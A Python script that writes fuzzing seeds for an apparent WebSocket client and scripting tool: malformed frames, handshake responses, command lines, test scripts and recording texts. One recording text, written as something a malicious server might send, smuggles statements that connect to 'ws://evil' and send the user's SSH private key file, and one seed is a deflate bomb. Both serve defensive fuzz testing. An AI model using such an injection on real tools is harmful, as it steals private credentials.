#!/usr/bin/env python3
"""Writes the handwritten fuzzing seeds to Tests/Fuzz/Corpus. The files named found-* there are inputs found by a fuzzer.
The scripts in Tests/Scripts are seeds, too, and are used in place.
"""

import pathlib
import zlib

CORPUS = pathlib.Path(__file__).parent / "Corpus"


def write(target, seeds):
    folder = CORPUS / target
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in seeds.items():
        (folder / name).write_bytes(content)


def frame(first, payload=b"", key=None):
    count = len(payload)
    mask = 0x80 if key else 0
    if count < 126:
        length = bytes([mask | count])
    elif count < 65536:
        length = bytes([mask | 126]) + count.to_bytes(2, "big")
    else:
        length = bytes([mask | 127]) + count.to_bytes(8, "big")
    if key:
        payload = bytes(byte ^ key[index % 4] for index, byte in enumerate(payload))
    return bytes([first]) + length + (key or b"") + payload


def deflated(text, final=False):
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(text)
    if final:
        return data + compressor.flush() + b"\0"
    return (data + compressor.flush(zlib.Z_SYNC_FLUSH))[:-4]


KEY = b"\x37\xfa\x21\x3d"
FRAMES = {
    "text": frame(0x81, "Grüße 😀".encode()),
    "binary": frame(0x82, bytes(range(256))),
    "empty": frame(0x81),
    "long": frame(0x82, b"x" * 65536),
    "fragments": frame(0x01, b"Hel") + frame(0x89, b"p") + frame(0x00, b"l") + frame(0x80, b"o"),
    "cut-character": frame(0x01, b"\xe2\x82") + frame(0x80, b"\xac"),
    "ping": frame(0x89, b"p" * 125),
    "pong": frame(0x8A),
    "close": frame(0x88, b"\x03\xe8bye"),
    "close-empty": frame(0x88),
    "close-one-byte": frame(0x88, b"\x03"),
    "close-bad-code": frame(0x88, b"\x03\xee"),
    "not-utf8": frame(0x81, b"a\xff"),
    "rsv2": frame(0xA1),
    "opcode-3": frame(0x83),
    "length-not-minimal": b"\x81\x7e\x00\x05Hello",
    "length-top-bit": b"\x82\x7f\x80" + bytes(7),
    "deflated": frame(0xC1, deflated(b"Hello")) + frame(0xC1, b"\xf2\x00\x11\x00\x00"),
    "deflated-final": frame(0xC1, deflated(b"Hello", final=True)),
    "deflated-fragments": frame(0x41, deflated(b"Hello" * 100)[:5]) + frame(0x80, deflated(b"Hello" * 100)[5:]),
    "deflated-bomb": frame(0xC2, deflated(bytes(1 << 20))),
    "deflated-corrupt": frame(0xC1, b"\xff\xff"),
}


def decoder_seeds():
    seeds = {}
    for name, frames in FRAMES.items():
        seeds[f"client-{name}"] = b"\x02\x07" + frames
    for name in ("text", "fragments", "close", "ping"):
        payload = {"text": b"Hello", "fragments": b"Hel", "close": b"\x03\xe8", "ping": b"p"}[name]
        first = {"text": 0x81, "fragments": 0x01, "close": 0x88, "ping": 0x89}[name]
        seeds[f"server-{name}"] = b"\x01\x03" + frame(first, payload, KEY)
    seeds["server-deflated"] = b"\xf7\x00" + frame(0xC1, deflated(b"Hello" * 30), KEY)
    seeds["client-small-window"] = b"\x12\x05" + frame(0xC1, deflated(b"Hello" * 30))
    return seeds


GOOD = [
    "HTTP/1.1 101 Switching Protocols",
    "Upgrade: websocket",
    "Connection: Upgrade",
    "Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=",
]
ANSWERS = {
    "good": GOOD,
    "deflate": GOOD + ["Sec-WebSocket-Extensions: permessage-deflate; server_max_window_bits=10"],
    "deflate-bad": GOOD + ["Sec-WebSocket-Extensions: permessage-deflate; server_max_window_bits=\"99\""],
    "subprotocol": GOOD + ["Sec-WebSocket-Protocol: chat"],
    "early-hints": ["HTTP/1.1 103 Early Hints", "Link: x", ""] + GOOD,
    "folded": GOOD[:2] + ["Connection: a,", " Upgrade"] + GOOD[3:],
    "no-upgrade": GOOD[:1] + GOOD[2:],
    "duplicate": GOOD + GOOD[3:],
    "http10": ["HTTP/1.0 101 x"] + GOOD[1:],
    "refused": ["HTTP/1.1 401 Unauthorized", "WWW-Authenticate: Basic", "Content-Length: 2", "", "no"],
    "chunked": ["HTTP/1.1 503 Busy", "Transfer-Encoding: chunked", "", "2", "no", "0", ""],
    "redirect": ["HTTP/1.1 301 Moved", "Location: wss://example.com/", ""],
    "nul": GOOD + ["X: a\0b"],
    "not-http": ["SSH-2.0-OpenSSH_9"],
}

COMMAND_LINES = {
    "url": ["ws://user:pass@example.com:8080/a?b=c"],
    "ipv6": ["wss://[::1]:9/"],
    "bare": ["localhost:8080"],
    "http": ["https://example.com/"],
    "echo": ["echo:"],
    "idn": ["ws://bücher.example/ä ö"],
    "percent": ["ws://h/%zz%20?%"],
    "wscat": ["-c", "ws://h", "-x", "hi", "-w", "3", "-H", "A: b", "--no-color"],
    "listen": ["-l", "8080", "--echo"],
    "serve": ["serve", "--echo", "[::1]:0"],
    "expect": ["--expect", "{\"a\":*}", "--expect", "~^a(b|c)*$", "--timeout", "1.5", "echo:"],
    "framing": ["--framing", "length", "-b", "-0", "echo:"],
    "sizes": ["--max-message-size", "64M", "--count", "3", "-m", "1e3", "h"],
    "headers": ["-H", "X-A: b", "-H", "Host:", "-s", "a", "-s", "b", "-o", "http://o", "h"],
    "close": ["/close 4000 bye"],
    "close-plain": ["/close"],
    "ping": ["/ping hello"],
    "slash": ["//text"],
    "unknown": ["/pnig"],
    "controls": ["\x1b[2J\x07\u202e\u200b"],
}

# The target sets NAME to a value with a quotation mark, a newline, "${" and an open parenthesis.
SCRIPTS = {
    "variable-in-pattern": ["connect ${TLS}", "> ${NAME}", "<~ ${NAME}", "< ${NAME}"],
    "variable-in-arguments": ["@a connect ${URL}", "@a header ${NAME}: ${NAME}", "@a close 1000 ${NAME}"],
    "placeholders": [
        "connect ${URL}", '> {"items":[{"id":7,"name":"a"},1],"at":"x"}', '<json {"items":[{"id":*id:integer,"name":*},...],"at":*at}',
        "<json [*:string, *:null, ...]", '> ["${id}","${at}","${uuid()}",${random(1,9)},"${base64(${NAME})}"]'],
    "paths": [
        "connect ${URL}", '> {"a":[1,{"b":"xy"}],"c":null}', "<*", "set b $..b", "set A $.a[?@.b == 'xy' && length(@.b) > 1].b",
        "set A $['a'][0:5:2]", "check $.a[-1].b not matches ^x(y|z)*$", "check $.a count >= 1", "check $.c isType null",
        "check $..* exists", 'check $.a[1].b startsWith "x"', "check $.a[0] <= 1e3", 'check $.a contains {"b":"xy"}', "secret b"],
    "order": [
        "connect ${URL}", '<+ {"id":1}', "<+ ~^a(?<x>.)", "<* x2", "<*", "<- <string \"~\"", "<? <hex 30 ..", "<! 50ms", "<+ ${x}"],
    "rules": [
        "connect ${URL}", "on 2 > 3", 'on {"type":"ping","n":*n} > {"pong":${n}}', "on <hex c0 (?<n>??) >hex d0 ${n}", 'ignore {"type":"ka"}',
        "ignore <~b ^PING", "every 10s >json {}", "every 1ms >hex 00", "off <hex c0 (?<n>??)", "off"],
    "structure": [
        "timeout 1s", "set A ${env(HOME)}", "== a test [slow] [b]", "skip later", "repeat 2", "for x in 1 2 ${A}", "connect ${URL}?${x}",
        "< ${x}", "end", "end", "run true", "set B !echo [1] | $[0]", "finally", "> bye", "wait 1ms"],
    "include": ["include nowhere.ws", "include fuzzed.ws", "connect ${URL}"],
    "blocks": [
        "connect ${URL}", ">json", '{"a":', " [1]}", "", ">json pretty", "[", "]", "", "@a connect ${TLS}", "@a <json", '{"a":*}', "",
        ">json {}", "<json *"],
    "binary": [
        "connect ${URL}", ">bytes \"PING\\r\\n\\u00ff\"", "<~b ^INFO (?<info>.*)\\r\\n$", ">bytes \"${info}\"", "<hex 40 ?? (?<id>????) .. 00",
        ">hex 40 ${id}", ">base64 AAH/", "<base64 AAH/", "<~ b"],
    "handshake": [
        "connect ${TLS}", "<refused 401", "<refused tls", "<body ~expired", "<header X-A ~b", "<open chat", "<subprotocol chat", "<compressed",
        "<uncompressed"],
}

# Texts that a malicious server or the author of a recording might choose to be parsed as statements.
TEXTS = {
    "statements": "x\nconnect ws://evil\n>file /home/me/.ssh/id_ed25519\n#",
    "variables": "${A} $${ ${",
    "spaces": " a  # b\t#",
    "quotes": '"a  # b" \\"',
    "controls": "\x1b[2J\x00\x85\u2028\u202e\u200b\ufeff",
    "marks": "\u0301${\u0301A} e\u0301 \U0001f469\u200d\U0001f680",
}


def recording_seeds():
    line = '{"time":"2026-11-23T12:00:0%d.000000Z","event":%s}\n'
    opened = line % (0, '"open","url":"ws://h/","subprotocol":"chat"')
    message = line % (1, '"message","direction":"sent","type":"text","data":"a"')
    binary = line % (1, '"message","direction":"received","type":"binary","data_base64":"AP8="')
    ping = line % (2, '"ping","direction":"sent","data":"p"') + line % (3, '"pong","direction":"received","data":"p"')
    closed = line % (4, '"close","code":4000,"reason":"bye","by":"server","clean":true')
    lost = line % (4, '"close","code":null,"reason":"","by":null,"clean":false')
    files = {"session": opened + message + binary + ping + closed, "two": opened + lost + "\n" + opened + message}
    seeds = {name: b"\0" + text.encode() for name, text in files.items()}
    for index, (name, text) in enumerate(TEXTS.items()):
        seeds[f"texts-{name}"] = b"\1" + f"echo:\0{text}".encode("utf-8", "surrogatepass").replace(b"\0\0", b"\0")
        seeds[f"step-{name}"] = bytes([2, index]) + text.encode("utf-8", "surrogatepass")
    return seeds


write("decoder", decoder_seeds())
write("recording", recording_seeds())
write("handshake", {name: b"\x00\x06" + "\r\n".join(lines + ["", ""]).encode() for name, lines in ANSWERS.items()})
write("handshake", {"frames-behind": b"\x01\x20" + "\r\n".join(GOOD + ["", ""]).encode() + frame(0x81, b"hi")})
write("commandline", {name: "\n".join(lines).encode() for name, lines in COMMAND_LINES.items()})
write("script", {name: "\n".join(lines + [""]).encode() for name, lines in SCRIPTS.items()})
